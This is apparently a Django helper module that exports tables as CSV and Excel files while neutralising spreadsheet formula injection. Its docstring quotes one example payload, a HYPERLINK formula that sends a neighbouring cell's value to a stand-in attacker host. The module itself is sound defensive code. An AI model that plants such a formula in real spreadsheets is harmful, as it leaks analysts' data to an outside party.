"""CSV and Excel files that a spreadsheet opens as data, never as formulas.

Text typed into the service (a council's name set in the admin, an imported value) ends up in
analysts' spreadsheets. A cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return,
which some programs skip before looking) is a formula to Excel and LibreOffice, and
`=HYPERLINK("http://evil.example/?leak="&B2,"Rutland")` sends the neighbouring cell to whoever wrote
it. So:

- CSV: such a text cell gets a leading apostrophe (OWASP's advice), which spreadsheets show as text;
- Excel: every text cell is written as a string cell (never a formula), unchanged, and dates as
  real dates, so they sort and filter as dates.
Numbers stay numbers in both.
"""

import csv
import datetime
import io

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.utils import get_column_letter

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}
DATE_FORMAT = "yyyy-mm-dd"


def csv_cell(value):
    """One CSV cell's text: dates in ISO form, numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, datetime.datetime | datetime.date):
        return value.isoformat()
    if isinstance(value, bool) or not isinstance(value, int | float):
        text = str(value)
        return f"'{text}" if text.startswith(FORMULA_START) else text
    return value


def write_csv(rows):
    """Bytes of a CSV file (UTF-8 with a byte-order mark, so Excel reads the accents) of `rows`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def _xlsx_cell(sheet, value):
    if isinstance(value, datetime.datetime):
        value = value.replace(tzinfo=None)
    if isinstance(value, datetime.datetime | datetime.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = DATE_FORMAT
        return cell
    if isinstance(value, int | float) and not isinstance(value, bool):
        return WriteOnlyCell(sheet, value=value)
    cell = WriteOnlyCell(sheet, value="" if value is None else str(value))
    cell.data_type = "s"  # openpyxl would otherwise store text starting with "=" as a formula
    return cell


def write_xlsx(rows, *, title):
    """Bytes of an Excel workbook with one sheet, `title`, holding `rows` (the first is the header)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    widths = {}
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
        for i, value in enumerate(row, start=1):
            widths[i] = min(60, max(widths.get(i, 8), len(str(value or "")) + 2))
    for i, width in widths.items():
        sheet.column_dimensions[get_column_letter(i)].width = width
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def table_response(table, export_format, *, filename, title):
    """An attachment of a django-tables2 table's export values (its `value_*` methods) as CSV or XLSX."""
    rows = list(table.as_values())
    body = write_csv(rows) if export_format == "csv" else write_xlsx(rows, title=title)
    response = HttpResponse(body, content_type=CONTENT_TYPES[export_format])
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
